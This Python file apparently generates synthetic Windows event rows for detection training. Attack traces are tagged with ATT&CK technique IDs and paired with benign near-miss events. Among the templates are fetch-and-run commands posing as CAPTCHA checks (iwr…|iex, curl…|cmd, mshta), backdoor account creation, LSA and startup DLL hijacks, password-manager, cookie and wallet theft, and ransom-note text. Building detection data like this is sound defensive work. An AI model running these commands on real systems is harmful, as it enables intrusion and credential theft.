"""Windows events of persistence, accounts, collection and impact that few other rows show, with near misses."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

RARE_TRACES = parse_events(
    r"""
# What starts by itself
rare-netsh-key value +T1546.007: «‹sys›\netsh.exe¦‹ps›¦‹own›» ;; HKLM\SOFTWARE\Microsoft\NetSh\«‹name›¦‹n›» ;; ‹ownplace›\‹name›.dll
rare-netsh-load load +T1546.007: C:\Windows\«System32¦SysWOW64»\netsh.exe ;; ‹ownplace›\‹name›.dll
rare-netsh-child process +T1546.007: @ ;; «cmd.exe¦powershell.exe -nop -enc ‹enc›¦‹own›» ;; ‹s32›\netsh.exe ;; netsh
near-rare-netsh-load loadsigned: C:\Windows\System32\netsh.exe ;; C:\Windows\System32\«ifmon¦rasmontr¦authfwcfg¦dhcpcmonitor¦wlancfg¦nshwfp».dll
rare-ifeo-key value +T1546.012: ‹writer› ;; HKLM\SOFTWARE\«WOW6432Node\¦»Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«‹name›¦notepad¦winword¦chrome¦calc».exe\«Debugger¦VerifierDlls» ;; ‹own›
rare-ifeo-child process +T1546.012: ‹own› ;; ‹own› C:\Windows\System32\notepad.exe ;; C:\Windows\explorer.exe
rare-silent-exit value +T1546.012: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\«notepad¦winword¦‹name›».exe\MonitorProcess ;; «‹own›¦‹payload›»
near-rare-ifeo-key value: «C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\gflags.exe¦C:\Windows\System32\svchost.exe¦C:\Windows\System32\msiexec.exe» ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\‹name›.exe\«PageHeapFlags¦MitigationOptions¦UseLargePages¦CFGOptions» ;; DWORD (0x0000000«1¦3»)
rare-com-server value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\‹guid›\«InprocServer32¦LocalServer32»\(Default) ;; «‹ownplace›\‹name›.dll¦‹own›»
rare-com-treat value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\‹guid›\«TreatAs\(Default)¦ScriptletURL\(Default)¦InprocServer32\ThreadingModel» ;; «‹guid›¦http://‹ip›/‹name›.sct¦C:\ProgramData\‹name›.dll»
rare-com-load load +T1546.015: «C:\Windows\explorer.exe¦‹browser›¦‹s32›\taskhostw.exe» ;; C:\Users\‹user›\AppData\«Roaming¦Local\Temp¦LocalLow»\‹guid›\‹name›.dll
near-rare-com-server value: «C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\OneDrive.exe¦C:\Windows\System32\msiexec.exe¦C:\Program Files\Dropbox\Client\Dropbox.exe» ;; ‹hku›_Classes\CLSID\‹guid›\InprocServer32\(Default) ;; C:\«Users\‹user›\AppData\Local\Microsoft\OneDrive\23.‹n›\FileSyncShell64.dll¦Program Files\Dropbox\Client\DropboxExt64.‹n›.dll»
rare-screensaver-key value +T1546.002: ‹writer› ;; ‹hku›\Control Panel\Desktop\SCRNSAVE.EXE ;; ‹ownplace›\‹name›.«scr¦exe»
rare-screensaver-run process +T1546.002: ‹ownplace›\‹name›.scr ;; ‹ownplace›\‹name›.scr /s ;; ‹s32›\winlogon.exe ;; winlogon.exe
rare-screensaver-file file +T1546.002: ‹writer› ;; C:\Windows\«System32¦SysWOW64¦»\‹name›.scr
near-rare-screensaver process: C:\Windows\System32\«Bubbles¦Mystify¦ssText3d¦scrnsave».scr ;; C:\Windows\System32\«Bubbles¦Mystify¦scrnsave».scr /«s¦p ‹pid›» ;; C:\Windows\System32\winlogon.exe ;; winlogon.exe
rare-handler-key value +T1546.001: ‹writer› ;; «HKLM\SOFTWARE\Classes¦‹hku›_Classes»\«txtfile¦batfile¦htmlfile¦‹name›»\shell\open\command\(Default) ;; "‹own›" "%1"
rare-appcert-key value +T1546.009: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls\‹name› ;; ‹ownplace›\‹name›.dll
rare-appcert-load load +T1546.009: C:\Windows\«explorer¦System32\cmd¦System32\svchost».exe ;; C:\«Windows\Temp¦ProgramData»\AppCert«‹n›¦_‹name›».dll
rare-appinit-load load +T1546.010: «‹s32›\«notepad¦mspaint».exe¦‹browser›» ;; C:\«ProgramData¦Windows\Temp»\«appinit¦AppInit_‹name›¦hook_‹name›».dll
rare-shim-file file +T1546.011: «‹sys›\sdbinst.exe¦‹ps›¦‹own›» ;; C:\Windows\apppatch\Custom\«Custom64\¦»‹guid›.sdb
rare-shim-run process +T1546.011: @ ;; "C:\Windows\System32\sdbinst.exe" -q «-u ¦»‹ownplace›\‹name›.sdb ;; «‹cmd›¦‹ps›¦‹own›»
near-rare-shim process: @ ;; "C:\Windows\System32\sdbinst.exe" -m -bg ;; C:\Windows\System32\svchost.exe ;; C:\Windows\system32\svchost.exe -k netsvcs -p
rare-profile-file file +T1546.013: «‹ps›¦‹cmd›¦‹own›» ;; C:\«Users\‹user›\Documents\«WindowsPowerShell¦PowerShell»\«Microsoft.PowerShell_profile¦profile¦Microsoft.VSCode_profile».ps1¦Windows\System32\WindowsPowerShell\v1.0\«profile¦Microsoft.PowerShell_profile».ps1»
rare-authentication-key value +T1547.002: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\Lsa\Authentication Packages ;; msv1_0 «C:\ProgramData\‹name›.dll¦‹name›¦evil_‹name›»
rare-authentication-log security +T1547.002: 4610 ;; AuthenticationPackageName=C:\Windows\system32\‹name›.dll : ‹Word›
rare-time-key value +T1547.003: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\«‹name›¦‹Word›Time¦NtpClient»\DllName ;; ‹ownplace›\‹name›.dll
rare-time-load load +T1547.003: C:\Windows\System32\svchost.exe ;; «C:\ProgramData¦C:\Windows\Temp¦C:\Windows\System32»\«w32tm_‹name›¦timeprov‹n›¦‹name›time».dll
near-rare-time-key value: «C:\Windows\System32\w32tm.exe¦C:\Windows\System32\svchost.exe» ;; HKLM\SYSTEM\CurrentControlSet\Services\W32Time\«TimeProviders\NtpClient\SpecialPollInterval¦Parameters\NtpServer¦Config\MaxPollInterval» ;; «DWORD (0x00000e10)¦‹host›.‹fqdn›,0x9»
rare-ssp-key value +T1547.005: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\Lsa\«OSConfig\¦»Security Packages ;; kerberos msv1_0 schannel «‹name›¦mimilib¦C:\ProgramData\‹name›.dll»
rare-ssp-log security +T1547.005: 4622 ;; SecurityPackageName=C:\Windows\«system32\«mimilib¦‹name›»¦Temp\‹name›».dll : ‹Word›
near-rare-ssp-log security: 46«22¦10» ;; SecurityPackageName=C:\Windows\system32\«msv1_0.DLL : NTLM¦kerberos.DLL : Kerberos¦schannel.DLL : Schannel¦wdigest.DLL : WDigest¦TSpkg.DLL : TSSSP»
rare-lsass-key value +T1547.008: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Services\NTDS\«LsaDbExtPt¦DirectoryServiceExtPt» ;; ‹ownplace›\‹name›.dll
rare-lsass-load load +T1547.008: ‹lsass› ;; C:\«ProgramData¦Windows\Temp¦Users\Public»\‹name›.dll
rare-monitor-key value +T1547.010: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\«‹name›¦‹Word› Port»\Driver ;; «‹name›.dll¦‹ownplace›\‹name›.dll»
rare-processor-key value +T1547.012: «‹writer›¦C:\Windows\System32\spoolsv.exe» ;; HKLM\SYSTEM\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\‹name›\Driver ;; «‹name›.dll¦..\..\..\..\ProgramData\‹name›.dll»
rare-processor-file file +T1547.012: «‹own›¦‹ps›¦‹cmd›» ;; C:\Windows\System32\spool\prtprocs\x64\‹name›.dll
near-rare-print-key value: C:\Windows\System32\spoolsv.exe ;; HKLM\SYSTEM\CurrentControlSet\Control\Print\«Printers\‹Word›\PrinterDriverData\FreeMem¦Environments\Windows x64\Print Processors\hpzppwn7\Driver¦Monitors\HP Universal Print Monitor\Driver» ;; «DWORD (0x00000400)¦hpzppwn7.dll¦HPMPM082.DLL»
rare-active-key value +T1547.014: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Active Setup\Installed Components\«‹guid›¦‹name›»\StubPath ;; «‹payload›¦‹own›»
rare-active-run process +T1547.014: ‹own› ;; "‹own›" ;; C:\Windows\SysWOW64\runonce.exe ;; C:\Windows\SysWOW64\runonce.exe /AlternateShellStartup
near-rare-active-key value: C:\Program Files«¦ (x86)»\Google\Chrome\Application\1‹n›.0.‹pid›.‹n›\Installer\setup.exe ;; HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}\StubPath ;; "C:\Program Files\Google\Chrome\Application\1‹n›.0.‹pid›.‹n›\Installer\chrmstp.exe" --configure-user-settings
rare-winlogon-key value +T1547.004: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Windows NT\CurrentVersion\Winlogon\«Userinit¦Shell¦Notify\‹name›\DllName» ;; «C:\Windows\system32\userinit.exe,‹own›¦explorer.exe, ‹own›»
rare-shortcut-file file +T1547.009: «‹ps›¦‹own›¦‹s32›\wscript.exe» ;; C:\Users\‹user›\«Desktop\«Google Chrome¦Outlook¦‹Word›»¦AppData\Roaming\Microsoft\Internet Explorer\Quick Launch\User Pinned\TaskBar\«Google Chrome¦File Explorer»».lnk
rare-logon-script-run process +T1037.001: @ ;; «cmd.exe /c C:\ProgramData\‹name›.bat¦"‹own›"¦powershell.exe -w hidden -f C:\Users\Public\‹name›.ps1» ;; C:\Windows\System32\userinit.exe ;; C:\Windows\system32\userinit.exe
rare-logon-script-file file +T1037.001: ‹writer› ;; C:\Windows\System32\GroupPolicy\«User\Scripts\Logon¦Machine\Scripts\Startup»\‹name›.«bat¦ps1¦vbs»
near-rare-userinit process: @ ;; «C:\Windows\Explorer.EXE¦"\\‹fqdn›\netlogon\logon.cmd"¦C:\Windows\System32\gpscript.exe /Logon» ;; C:\Windows\System32\userinit.exe ;; C:\Windows\system32\userinit.exe
rare-termservice value +T1505.005: «‹writer›¦‹own›» ;; HKLM\SYSTEM\CurrentControlSet\Services\TermService\Parameters\ServiceDll ;; «‹ownplace›\‹name›.dll¦C:\Program Files\RDP Wrapper\rdpwrap.dll»
rare-termservice-load load +T1505.005: C:\Windows\System32\svchost.exe ;; C:\«Program Files\RDP Wrapper\rdpwrap¦ProgramData\termsrv_‹name›¦Windows\Temp\termsrv».dll
rare-iis-load load +T1505.004: ‹s32›\inetsrv\w3wp.exe ;; «C:\Windows\System32\inetsrv\‹name›¦C:\ProgramData\‹name›¦C:\inetpub\temp\‹name›».dll
rare-iis-appcmd process +T1505.004: @ ;; "C:\Windows\System32\inetsrv\appcmd.exe" install module /name:"‹name›" /image:"‹ownplace›\‹name›.dll" /add:true ;; «‹s32›\inetsrv\w3wp.exe¦‹cmd›¦‹ps›»
rare-transport-file file +T1505.002: «‹ps›¦‹own›¦‹s32›\inetsrv\w3wp.exe» ;; C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\agents\«‹name›\¦»«Microsoft.Exchange.‹Word›Agent¦‹name›».dll
rare-transport-load load +T1505.002: C:\Program Files\Microsoft\Exchange Server\V15\Bin\EdgeTransport.exe ;; ‹ownplace›\‹name›.dll
rare-extension-key value +T1176.001: «‹ps›¦‹reg›¦‹own›» ;; HKLM\SOFTWARE\«Policies\Google\Chrome\ExtensionInstallForcelist\‹n›¦Policies\Microsoft\Edge\ExtensionInstallForcelist\‹n›¦Google\Chrome\Extensions\‹letters8›‹letters8›\path» ;; «‹name›;http://‹ip›/update.xml¦C:\ProgramData\‹name›.crx»
rare-extension-file file +T1176.001: «‹ps›¦‹own›» ;; C:\Users\‹user›\AppData\Local\Google\Chrome\User Data\Default\«Extensions\‹letters8›‹letters8›\1.0_0\background.js¦Secure Preferences»
rare-extension-edge process +T1176.001: ‹browser› ;; "C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --load-extension=C:\«ProgramData¦Users\Public»\‹name› --restore-last-session ;; «‹ps›¦‹cmd›¦‹own›»
near-rare-extension-file file: ‹browser› ;; C:\Users\‹user›\AppData\Local\Google\Chrome\User Data\Default\Extensions\‹letters8›‹letters8›\«2¦3».‹n›_0\«manifest.json¦background.js»
rare-office-key value +T1137.006: ‹writer› ;; ‹hku›\Software\Microsoft\«Office\16.0\Excel\Add-in Manager\‹name›¦VBA\VBE\6.0\Addins64\‹name›\LoadBehavior¦Office\Outlook\Addins\‹name›\Manifest» ;; «‹ownplace›\‹name›.«xll¦dll¦vsto»¦DWORD (0x00000003)»
rare-office-load load +T1137.006: C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE ;; «C:\Users\‹user›\AppData\Roaming\Microsoft\AddIns¦C:\Users\‹user›\Downloads¦C:\ProgramData»\‹name›.xll
rare-office-test-load load +T1137.002: C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL».EXE ;; ‹ownplace›\«perf_‹name›¦officetest‹n›».dll
rare-office-test-key key +T1137.002: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Office test\Special\Perf
rare-office-template file +T1137.001: «‹cmd›¦‹s32›\wscript.exe¦‹ps›» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\«Word\STARTUP\‹name›.dotm¦Excel\XLSTART\‹name›.xlsm»
rare-office-template-key value +T1137.001: ‹writer› ;; ‹hku›\Software\Microsoft\Office\16.0\«Word\Options\GlobalDotName¦Excel\Options\AltStartup¦Word\Options\STARTUP-PATH» ;; ‹ownplace›\‹name›
rare-outlook-key value +T1137.004: ‹writer› ;; ‹hku›\Software\Microsoft\Office\16.0\Outlook\WebView\«Calendar¦Contacts¦Tasks»\«URL¦Security» ;; «https://‹fqdn›/‹name›.html¦file://C:\ProgramData\‹name›.htm»
rare-outlook-child process +T1137.005: @ ;; «"‹own›"¦\\‹ip›\share\‹name›.exe¦\\‹ip›@80\webdav\‹name›.bat» ;; C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE ;; "C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
near-rare-office-key value: C:\Program Files\Microsoft Office\root\Office16\«OUTLOOK¦EXCEL¦WINWORD».EXE ;; ‹hku›\Software\Microsoft\Office\16.0\«Excel\Options\DefaultFormat¦Outlook\Addins\TeamsAddin.FastConnect\LoadBehavior¦Word\Options\AutosaveInterval» ;; DWORD (0x00000003)
rare-at-file file +T1053.002: C:\Windows\System32\«svchost¦taskeng».exe ;; C:\Windows\«System32\Tasks¦Tasks»\At‹n›
rare-at-task task +T1053.002: \At‹n› ;; «cmd.exe§/C whoami > %windir%\Temp\‹letters8›.tmp 2>&1¦‹own›§¦cmd.exe§/c ‹ownplace›\‹name›.bat»
rare-bits-job log +T1197: Microsoft-Windows-Bits-Client|Microsoft-Windows-Bits-Client/Operational|3 ;; jobTitle=‹name› ;; jobId=‹guid› ;; jobOwner=‹domain›\‹user› ;; processPath=‹own›
rare-bits-child process +T1197: ‹own› ;; "‹own›" ;; C:\Windows\System32\svchost.exe ;; C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS
rare-path-service process +T1574.009: C:\«Program¦Program Files\‹Word›».exe ;; C:\Program Files\‹Word› ‹Word›\service.exe ;; C:\Windows\System32\services.exe ;; C:\Windows\system32\services.exe
rare-path-service-file file +T1574.009: «‹ps›¦‹cmd›¦‹own›» ;; C:\«Program¦Program Files\‹Word›¦Program Files (x86)\Common».exe
rare-service-path value +T1574.011: «‹ps›¦‹own›¦‹reg›» ;; HKLM\SYSTEM\CurrentControlSet\Services\«Spooler¦Fax¦WerSvc¦UsoSvc¦XblAuthManager»\«ImagePath¦FailureCommand¦Performance\Library» ;; «‹own›¦cmd.exe /c ‹own›¦‹ownplace›\‹name›.dll»
rare-profiler-key value +T1574.012: ‹writer› ;; «‹hku›\Environment¦HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Environment»\«COR_PROFILER¦CORECLR_PROFILER_PATH¦COR_PROFILER_PATH¦COR_ENABLE_PROFILING» ;; «‹guid›¦‹ownplace›\‹name›.dll»
rare-profiler-load load +T1574.012: «‹s32›\«mmc¦eventvwr¦taskhostw».exe¦‹ps›» ;; ‹ownplace›\«profiler‹n›¦cor_‹name›¦‹name›Profiler».dll
near-rare-profiler value: «C:\Windows\System32\msiexec.exe¦C:\Program Files\New Relic\.NET Agent\installer.exe» ;; HKLM\SYSTEM\CurrentControlSet\Services\W3SVC\Environment ;; COR_ENABLE_PROFILING=1 COR_PROFILER={71DA0A04-7777-4EC6-9643-7D28B46A8A41} NEWRELIC_INSTALL_PATH=C:\Program Files\New Relic\.NET Agent\
# Accounts and passwords
rare-guest-reset security +T1078.001: 472«4¦2» ;; TargetUserName=«DefaultAccount¦Guest» ;; TargetDomainName=‹server› ;; TargetSid=S-1-5-21-‹pid›-‹pid›-‹pid›-50«1¦3»
rare-guest-logon security +T1078.001: 4624 ;; TargetUserName=«Guest¦DefaultAccount» ;; TargetDomainName=‹server› ;; LogonType=«3¦10» ;; IpAddress=‹ip› ;; AuthenticationPackageName=NTLM
rare-guest-member security +T1098: 4732 ;; MemberName=- ;; MemberSid=S-1-5-21-‹pid›-‹pid›-‹pid›-501 ;; TargetUserName=«Administrators¦Remote Desktop Users» ;; TargetDomainName=Builtin
near-rare-guest security: 4725 ;; TargetUserName=Guest ;; TargetDomainName=‹server› ;; TargetSid=S-1-5-21-‹pid›-‹pid›-‹pid›-501
rare-user-made process +T1136.001: @ ;; «net.exe user /add «‹name›¦support_‹n›» ‹pass›¦net1 user ‹name›$ ‹pass› /add /active:yes /expires:never¦powershell.exe New-LocalUser -Name ‹name› -NoPassword» ;; «‹own›¦‹s32›\wbem\WmiPrvSE.exe¦‹s32›\mshta.exe¦C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe»
rare-user-event security +T1136.001: 4720 ;; TargetUserName=«‹name›$¦support_‹n›¦WDAGUtilityAccount‹n›¦sqladm¦backdoor¦hacker» ;; TargetDomainName=‹server› ;; UserAccountControl=%%2080 %%2082 %%2084 ;; PasswordLastSet=%%1794
rare-machine-made security +T1136.002: 4741 ;; TargetUserName=«‹letters8›$¦DESKTOP-‹letters8›$¦EVIL$» ;; TargetDomainName=‹domain› ;; SubjectUserName=‹user› ;; DnsHostName=- ;; ServicePrincipalNames=-
rare-account-lock process +T1531: @ ;; «net.exe user ‹user› ‹pass› /active:no¦logoff.exe ‹n› /server:‹server›¦powershell.exe -c "Get-LocalUser | ? Enabled | Disable-LocalUser"¦wmic useraccount where name='‹user›' delete¦net user ‹user› /delete» ;; «‹own›¦‹s32›\mshta.exe¦‹s32›\wscript.exe»
rare-account-hidden process +T1098: @ ;; «net.exe localgroup administrators ‹name› /add¦net1 localgroup "Remote Desktop Users" ‹name› /add¦wmic useraccount where name='‹name›' set PasswordExpires=False» ;; «‹own›¦‹s32›\wbem\WmiPrvSE.exe¦‹s32›\wscript.exe»
rare-account-flag security +T1098: 4738 ;; TargetUserName=‹user› ;; TargetDomainName=‹domain› ;; UserAccountControl=«%%2096¦%%2098¦%%2089» ;; OldUacValue=0x210 ;; NewUacValue=«0x400210¦0x80210¦0x10210» ;; AllowedToDelegateTo=«-¦cifs/‹host›.‹fqdn›»
near-rare-account security: 47«24¦38¦22» ;; TargetUserName=‹user› ;; TargetDomainName=‹domain› ;; TargetSid=S-1-5-21-‹pid›-‹pid›-‹pid›-1‹pid› ;; SubjectUserName=helpdesk‹n›
rare-filter-key value +T1556.002: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\«Lsa\Notification Packages¦NetworkProvider\Order\ProviderOrder» ;; «rassfm scecli ‹name›¦RDPNP,LanmanWorkstation,webclient,‹name›¦scecli C:\ProgramData\‹name›»
rare-filter-log security +T1556.002: 4614 ;; NotificationPackageName=«‹name›¦C:\ProgramData\‹name›¦passfilt_‹name›»
near-rare-filter security: 4614 ;; NotificationPackageName=«scecli¦rassfm¦AzureADPasswordProtectionFilter¦KDCSVC»
rare-sid-history dirvalue +T1134.005: ‹dn› ;; «user¦computer» ;; sIDHistory ;; S-1-5-21-‹pid›-‹pid›-‹pid›-«500¦512¦518¦519»
rare-token-run process +T1134.002: @ ;; cmd.exe «/c whoami¦/k»  ;; ‹ownplace›\«RunasCs¦Tokenvator¦JuicyPotato¦‹name›».exe ;; ‹ownplace›\RunasCs.exe ‹user› ‹pass› cmd.exe
rare-token-logon explicit +T1134.002: ‹user› ;; localhost ;; ‹ownplace›\«RunasCs¦‹name›¦AdvancedRun».exe
rare-rdp-tscon process +T1563.002: @ ;; «C:\Windows\System32\tscon.exe¦tscon.exe» ‹n› /dest:«rdp-tcp#‹n›¦console» ;; «C:\Windows\System32\services.exe¦‹cmd›¦C:\Windows\PSEXESVC.exe»
rare-rdp-service service +T1563.002: ‹name› ;; «cmd.exe /k¦cmd /c» tscon ‹n› /dest:rdp-tcp#‹n›
rare-shadow-key value +T1112: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services\Shadow ;; DWORD (0x0000000«2¦4»)
near-rare-tscon process: @ ;; «C:\Windows\System32\logoff.exe ‹n›¦C:\Windows\System32\msg.exe ‹user› /server:‹server› "Please log off"¦C:\Windows\System32\mstsc.exe "C:\Users\‹user›\Desktop\‹host›.rdp"¦C:\Windows\System32\rdpinit.exe» ;; «‹cmd›¦C:\Windows\explorer.exe»
rare-hash-logon security +T1550.002: 4624 ;; TargetUserName=«Administrator¦‹user›» ;; TargetDomainName=‹domain› ;; LogonType=9 ;; LogonProcessName=seclogo ;; AuthenticationPackageName=Negotiate ;; KeyLength=0 ;; IpAddress=::1 ;; WorkstationName=-
rare-golden-ticket security +T1558.001: 4769 ;; TargetUserName=«‹name›@‹fqdn›¦Administrator@‹domain›» ;; ServiceName=krbtgt ;; TicketEncryptionType=0x17 ;; TicketOptions=0x40810010 ;; IpAddress=::ffff:‹ip›
rare-ticket-file file +T1558: «‹own›¦‹ps›» ;; ‹ownplace›\«‹name›.kirbi¦[0;‹hash›]-2-0-40e10000-‹user›@krbtgt-‹domain›.kirbi¦‹user›.ccache»
rare-managers-file handle +T1555.005: 4663 ;; File ;; C:\Users\‹user›\«Documents\‹name›.kdbx¦AppData\Local\1Password\data\1password10.sqlite¦AppData\Roaming\KeePass\KeePass.config.xml¦AppData\Local\Bitwarden\data.json» ;; «‹own›¦‹ps›» ;; 0x1
rare-keepass-trigger file +T1555.005: «‹ps›¦‹own›» ;; C:\Users\‹user›\AppData\Roaming\KeePass\KeePass.config.enforced.xml
near-rare-managers handle: 4663 ;; File ;; C:\Users\‹user›\Documents\‹name›.kdbx ;; C:\Program Files\«KeePass Password Safe 2\KeePass¦KeePassXC\KeePassXC».exe ;; 0x«1¦2»
rare-cookie-access handle +T1539: 4663 ;; File ;; C:\Users\‹user›\AppData\«Local\Google\Chrome\User Data\Default\Network\Cookies¦Local\Microsoft\Edge\User Data\Default\Network\Cookies¦Roaming\Mozilla\Firefox\Profiles\‹letters8›.default-release\cookies.sqlite» ;; «‹own›¦‹ps›¦‹sys›\cmd.exe» ;; 0x1
rare-cookie-copy file +T1539: «‹own›¦‹ps›» ;; ‹ownplace›\«Cookies¦cookies.sqlite¦chrome_cookies.db¦Cookies_‹user›.txt»
rare-cookie-debug process +T1539: ‹browser› ;; "C:\Program Files\Google\Chrome\Application\chrome.exe" --remote-debugging-port=92‹n› --remote-allow-origins=* --user-data-dir="C:\Users\‹user›\AppData\Local\Google\Chrome\User Data"« --headless¦» ;; «‹own›¦‹ps›»
near-rare-cookie handle: 4663 ;; File ;; C:\Users\‹user›\AppData\Local\Google\Chrome\User Data\Default\Network\Cookies ;; C:\Program Files\Google\Chrome\Application\chrome.exe ;; 0x«1¦2»
# Collection, leaving, breaking
rare-mail-access handle +T1114.001: 4663 ;; File ;; C:\Users\‹user›\«AppData\Local\Microsoft\Outlook\‹user›@‹fqdn›.ost¦Documents\Outlook Files\‹name›.pst» ;; «‹own›¦‹ps›¦‹sys›\robocopy.exe» ;; 0x1
rare-mail-copy file +T1114.001: «‹own›¦‹ps›¦‹cmd›» ;; ‹ownplace›\‹name›.«pst¦ost»
rare-local-copy file +T1005: «‹own›¦‹ps›¦‹sys›\esentutl.exe» ;; C:\«ProgramData¦Users\Public¦Windows\Temp»\«‹name›\passwords.xlsx¦wallet.dat¦‹name›\Login.docx¦‹user›_Desktop\‹name›.docx»
rare-local-wallet handle +T1005: 4663 ;; File ;; C:\Users\‹user›\AppData\Roaming\«Exodus\exodus.wallet\seed.seco¦Electrum\wallets\default_wallet¦Bitcoin\wallet.dat¦Telegram Desktop\tdata\key_datas» ;; «‹own›¦‹ps›» ;; 0x1
rare-share-read security +T1039: 5145 ;; ShareName=\\*\«finance¦hr¦legal¦C$» ;; RelativeTargetName=«Payroll\‹name›.xlsx¦passwords.docx¦IT\‹name›.kdbx¦Users\‹user›\Documents\‹name›.pst» ;; IpAddress=‹ip› ;; AccessMask=0x1 ;; ObjectType=File ;; SubjectUserName=svc_‹name›
rare-audio-file file +T1123: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; C:\«ProgramData¦Windows\Temp¦Users\Public»\«mic_‹n›¦audio_‹pid›¦‹name›».«wav¦opus¦m4a»
rare-camera-file file +T1125: «‹own›¦‹ps›» ;; ‹ownplace›\«webcam_‹n›¦cam‹n›¦capture_‹pid›».«jpg¦avi¦mp4»
rare-post-out connected +T1571: «‹own›¦‹sys›\rundll32.exe» ;; «1337¦4443¦8888¦9443» ;; «‹name›.duckdns.org¦‹name›.ddns.net¦‹name›.ngrok.io»
rare-odd-port connected +T1571: «‹own›¦‹ps›¦‹sys›\rundll32.exe¦C:\Windows\System32\svchost.exe» ;; «8088¦4444¦6667¦1337¦8531¦50050¦31337» ;; -
rare-odd-port-fw log +T1571: Microsoft-Windows-Security-Auditing|Security|5156 ;; Application=\device\harddiskvolume3\«programdata¦users\public¦windows\temp»\‹name›.exe ;; Direction=%%14593 ;; DestAddress=‹ip› ;; DestPort=«4444¦8081¦1337¦6666» ;; Protocol=6
rare-tor connected +T1090.003: C:\«Users\‹user›\AppData\Roaming\‹name›¦ProgramData\‹name›¦Users\Public\tor»\«tor¦tor-real».exe ;; «9001¦9030¦9150» ;; -
rare-tor-file file +T1090.003: «‹own›¦‹ps›¦‹sys›\tar.exe» ;; C:\«ProgramData¦Users\‹user›\AppData\Roaming»\«tor¦Tor\Data¦‹name›»\«torrc¦cached-microdesc-consensus¦tor.exe¦hidden_service\hostname»
rare-tor-name asked +T1090.003: «‹own›¦‹ps›¦‹browser›» ;; «‹hash›.onion¦‹name›.onion.ws¦‹hash›.onion.to¦‹name›.tor2web.org»
rare-clipboard-page process +T1204.004: @ ;; «powershell.exe -w h -c "iwr http://‹ip›/‹name› | iex" # I am not a robot: CAPTCHA ‹pid›¦cmd.exe /c start /min curl -s http://‹ip›/‹name› | cmd ^& REM human check» ;; C:\Windows\explorer.exe
rare-run-box value +T1204.004: C:\Windows\explorer.exe ;; ‹hku›\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\«a¦b¦c» ;; «mshta http://‹ip›/‹name›¦powershell -w hidden -c "irm ‹fqdn›/‹name›|iex"¦cmd /c curl ‹ip›/‹name› -o %temp%\‹name›.bat & %temp%\‹name›.bat»\1
near-rare-run-box value: C:\Windows\explorer.exe ;; ‹hku›\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\«a¦b¦c» ;; «regedit¦\\‹server›\‹project›¦services.msc¦cmd¦notepad¦mstsc /v:‹server›»\1
rare-doc-open process +T1566.001: C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\«invoice_‹n›¦payment_‹n›¦‹name›».«xlsm¦docm¦xlsb»" ;; C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
rare-doc-saved file +T1566.001: C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE ;; C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\«invoice_‹n›¦‹name›».«docm¦xlsm¦html¦iso¦hta¦one¦js»
near-rare-doc process: C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\‹user›\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\‹letters8›\«agenda¦‹name›».«docx¦xlsx»" ;; C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
rare-wallpaper value +T1491.001: «‹own›¦‹ps›» ;; ‹hku›\Control Panel\Desktop\«Wallpaper¦WallpaperStyle» ;; ‹ownplace›\«‹letters8›.bmp¦ransom.jpg¦README.png»
rare-legal value +T1491.001: «‹own›¦‹ps›¦‹reg›» ;; HKLM\SOFTWARE\Microsoft\Windows«¦ NT»\CurrentVersion\«Policies\System\legalnoticetext¦Policies\System\legalnoticecaption¦Winlogon\LegalNoticeText» ;; «PYSA¦Your files are encrypted by ‹Word›. Write to ‹name›@onionmail.org¦All data was stolen and encrypted»
